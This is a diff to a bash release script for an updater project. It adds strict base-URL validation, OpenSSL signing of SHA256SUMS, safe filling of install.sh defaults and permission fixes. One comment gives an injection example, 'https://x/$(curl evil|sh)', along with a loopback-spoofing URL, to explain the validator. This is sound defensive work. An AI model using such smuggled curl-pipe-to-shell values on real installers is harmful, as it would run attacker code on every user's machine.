@@ -13,23 +13,31 @@
 #                        (default: the built jars' version)
 #   --base-url URL       where DIR will be served, e.g. https://github.com/OWNER/REPO/releases;
 #                        baked into the released install.sh as its default (default: none, so
-#                        users of that install.sh must pass --base-url)
+#                        users of that install.sh must pass --base-url); a plain https:// URL
 #   --verify-key PUB     the public key the channel must verify with: a .pub file or an
 #                        ed25519:... line (default: the signing key's own)
-#   --expires-in DURATION  hosts refuse the channel's manifest after this long (default: never)
+#   --expires-in DURATION  hosts refuse the channel's manifest after this long; renew it with
+#                        'publish --resign' (default: publish's, 30d)
 #   --latest             make a pre-release (1.3.0-rc.1) the latest too; releases always are
 #   --no-build           use the jars already built (sidecar/target/updater-sidecar.jar)
 #
-# DIR afterwards (the URL layout install.sh expects; docs/operations.md#release-layout):
+# DIR afterwards (the URL layout install.sh expects; docs/operations.md#release-layout), every
+# file world-readable (0644, install.sh 0755) and every folder 0755, whatever the umask:
 #   DIR/download/vV/       updater-sidecar.jar updater.jar install.sh manifest.json manifest.json.sig
-#                          VERSION SHA256SUMS           -- the files attached to the GitHub release vV
+#                          VERSION SHA256SUMS SHA256SUMS.sig -- the files attached to the GitHub release vV
+#                          (SHA256SUMS lists the files that never change; SHA256SUMS.sig is its
+#                          Ed25519 signature by the release key, checked by install.sh; the
+#                          manifest carries its own signature, renewed by 'publish --resign')
 #   DIR/latest/download/   the same files for the newest release (GitHub's releases/latest/download/;
 #                          like GitHub, pre-releases do not become the latest unless --latest)
 #   DIR/manifest.json, DIR/manifest.json.sig, DIR/V/any/updater-sidecar.jar
 #                          the signed channel of updater-sidecar.jar, as 'publish' writes it
 #
+# Needs Java 17+ and OpenSSL 3 (to sign SHA256SUMS).
 # Exit status: 0 released; 1 failed (one line says why; DIR must then not be uploaded); 2 bad usage.
 set -euo pipefail
+# A release is served to everyone: files this script creates are 0644 and folders 0755.
+umask 022
 
 ROOT="$(cd "$(dirname "$0")/.." && pwd)"
 JAVA_CMD="${JAVA:-${JAVA_HOME:+$JAVA_HOME/bin/java}}"
@@ -45,7 +53,7 @@ latest=auto
 build=true
 
 usage() {
-  sed -n '7,22p' "$0" | sed 's/^# \{0,1\}//' >&2
+  sed -n '7,23p' "$0" | sed 's/^# \{0,1\}//' >&2
   exit 2
 }
 
@@ -88,11 +96,28 @@ parse_arguments() {
     ''|ed25519:*) ;;
     *) [ -f "$verify_key" ] || fail "the public key file $verify_key does not exist." ;;
   esac
-  case "$base_url" in
-    *[\|\&\"\\\ ]*) fail "--base-url must not contain spaces, quotes, backslashes, '|' or '&'." ;;
-    ''|https://*|http://127.0.0.1[:/]*|http://localhost[:/]*) ;;
-    *) fail "--base-url $base_url must be an https:// URL (plain http only to 127.0.0.1 or localhost)." ;;
-  esac
+  check_base_url
+  check_openssl
+}
+
+# The base URL is written into the released install.sh, which users run: only a plain URL passes.
+# Threat: --base-url 'https://x/$(curl evil|sh)' or a backquote, a quote or a backslash that would
+# turn into a command run by everyone who executes that install.sh; "http://127.0.0.1:@192.0.2.1"
+# that passes for loopback while it connects elsewhere.
+check_base_url() {
+  local path='(/[A-Za-z0-9._~/%+=,:-]*)?$'
+  local https_url="^https://[A-Za-z0-9.-]+(:[0-9]{1,5})?$path"
+  local loopback_url="^http://(127\.0\.0\.1|localhost|\[::1\])(:[0-9]{1,5})?$path"
+  if [ -n "$base_url" ] && ! [[ $base_url =~ $https_url || $base_url =~ $loopback_url ]]; then
+    fail "--base-url ${base_url//[^[:print:]]/?} is not a plain URL: give https://HOST[:PORT]/PATH (plain http only to 127.0.0.1, localhost or [::1]) without a user name, the path in letters, digits and ._~/%+=,:- only; it is written into the released install.sh."
+  fi
+}
+
+check_openssl() {
+  local found
+  found="$(openssl version 2>/dev/null)" || fail "openssl is not installed; signing SHA256SUMS needs OpenSSL 3 or newer."
+  [[ $found =~ ^OpenSSL\ ([3-9]|[1-9][0-9])\. ]] \
+    || fail "signing SHA256SUMS needs OpenSSL 3 or newer (openssl pkeyutl -rawin); this is ${found//[^[:print:]]/?}."
 }
 
 # Builds the jars; the tests already ran in CI, so they are skipped here.
@@ -133,53 +158,79 @@ stage_files() {
   if [ -f "$built_agent" ] && ! cmp -s "$built_agent" "$staging/updater.jar"; then
     fail "the agent jar inside $sidecar_jar differs from $built_agent: they come from different builds; build both with './mvnw package'."
   fi
-  if [ -n "$base_url" ]; then
-    sed "s|^DEFAULT_BASE_URL=\"\"|DEFAULT_BASE_URL=\"$base_url\"|" "$ROOT/install.sh" > "$staging/install.sh"
-    grep -q "^DEFAULT_BASE_URL=\"$base_url\"" "$staging/install.sh" || fail "could not set the base URL in install.sh."
-  else
-    cp "$ROOT/install.sh" "$staging/install.sh"
-  fi
-  chmod 0755 "$staging/install.sh"
   printf '%s\n' "$version" > "$staging/VERSION"
 }
 
 # Publishes the sidecar jar into the channel at DIR's root with the project's own CLI, then checks
 # the channel as a host would: signature, fields, expiry, and the artifact's size and SHA-256.
 publish_channel() {
-  local published signer
+  local published
   local args=(publish --version "$version" --artifact "any=$staging/updater-sidecar.jar" --key "$key" --out "$out"
     --feature "updater $version")
   [ -z "$expires_in" ] || args+=(--expires-in "$expires_in")
   published="$(sidecar "${args[@]}")" || fail "publish refused the release (see above); nothing was released."
   printf '%s\n' "$published"
+  signer="$(printf '%s\n' "$published" | sed -n 's/^Signed by key [^ ]* (\(ed25519:[A-Za-z0-9+\/=]*\))$/\1/p')"
+  [ -n "$signer" ] || fail "publish did not say which key signed the manifest."
   if [ -n "$verify_key" ]; then
     local key_option=--key-file
     case "$verify_key" in ed25519:*) key_option=--key ;; esac
     sidecar verify --manifest "$out" "$key_option" "$verify_key" --artifacts >/dev/null \
       || fail "the channel in $out does not verify with $verify_key (see above); was it signed with the wrong key?"
   else
-    signer="$(printf '%s\n' "$published" | sed -n 's/^Signed by key [^ ]* (\(ed25519:[^)]*\))$/\1/p')"
-    [ -n "$signer" ] || fail "publish did not say which key signed the manifest."
     sidecar verify --manifest "$out" --key "$signer" --artifacts >/dev/null \
       || fail "the channel in $out does not verify (see above)."
   fi
   cp "$out/manifest.json" "$out/manifest.json.sig" "$staging/"
 }
 
+# The released install.sh is the repository's with two defaults filled in: the base URL and the
+# key that signed this release. Both are checked plain values, written in single quotes, line by
+# line (no sed: '&', '|' and '\' mean something in its replacement).
+write_installer() {
+  local line set_url=0 set_key=0
+  [[ $signer =~ ^ed25519:[A-Za-z0-9+/=]+$ ]] || fail "publish reported a signing key that is not ed25519:<Base64>."
+  while IFS= read -r line || [ -n "$line" ]; do
+    case "$line" in
+      'DEFAULT_BASE_URL=""') set_url=$((set_url + 1)); [ -z "$base_url" ] || line="DEFAULT_BASE_URL='$base_url'" ;;
+      'DEFAULT_PUBLIC_KEY=""') set_key=$((set_key + 1)); line="DEFAULT_PUBLIC_KEY='$signer'" ;;
+    esac
+    printf '%s\n' "$line"
+  done < "$ROOT/install.sh" > "$staging/install.sh"
+  if [ "$set_url" != 1 ] || [ "$set_key" != 1 ]; then
+    fail "$ROOT/install.sh does not have one DEFAULT_BASE_URL=\"\" and one DEFAULT_PUBLIC_KEY=\"\" line to fill in."
+  fi
+}
+
+# SHA256SUMS lists the files that never change once released; manifest.json and its signature are
+# left out, as 'publish --resign' renews them. SHA256SUMS.sig is its signature by the release key
+# (Base64 Ed25519 over the exact bytes, like manifest.json.sig), checked here with the key
+# install.sh carries, as install.sh will check it.
 write_checksums() {
   local file
   (
     cd "$staging"
-    for file in install.sh manifest.json manifest.json.sig updater-sidecar.jar updater.jar VERSION; do
+    for file in install.sh updater-sidecar.jar updater.jar VERSION; do
       printf '%s  %s\n' "$(sha256_of "$file")" "$file"
     done
   ) > "$staging/SHA256SUMS.tmp"
   mv "$staging/SHA256SUMS.tmp" "$staging/SHA256SUMS"
+  { openssl pkeyutl -sign -inkey "$key" -rawin -in "$staging/SHA256SUMS" | openssl base64 -A; printf '\n'; } \
+    > "$staging/SHA256SUMS.sig" || fail "openssl could not sign SHA256SUMS with $key (see above)."
+  openssl pkeyutl -verify -pubin -rawin -in "$staging/SHA256SUMS" \
+    -inkey <(printf -- '-----BEGIN PUBLIC KEY-----\n%s\n-----END PUBLIC KEY-----\n' "${signer#ed25519:}") \
+    -sigfile <(openssl base64 -d -A -in "$staging/SHA256SUMS.sig") >/dev/null \
+    || fail "SHA256SUMS.sig does not verify with $signer, the key that signed the manifest; is $key that key?"
+}
+
+# Everything is served to everyone: files 0644, install.sh 0755, the folder 0755.
+make_readable() {
+  chmod 0644 "$staging"/*
+  chmod 0755 "$staging/install.sh" "$staging"
 }
 
 # vV appears whole (one rename); latest/download is replaced after it.
 move_into_place() {
-  chmod 0755 "$staging"
   mv "$staging" "$release_dir"
   trap - EXIT
   if [ "$latest" = auto ]; then
@@ -202,11 +253,14 @@ main() {
   check_version
   stage_files
   publish_channel
+  write_installer
   write_checksums
+  make_readable
   move_into_place
   printf 'Released updater %s into %s\n' "$version" "$out"
   printf '  attach to the GitHub release v%s: %s/*\n' "$version" "$release_dir"
   printf '  check: (cd %s && sha256sum -c SHA256SUMS)\n' "$release_dir"
+  printf '  renew the manifest before it expires: updater-sidecar publish --resign --out %s --key %s\n' "$out" "$key"
 }
 
 main "$@"
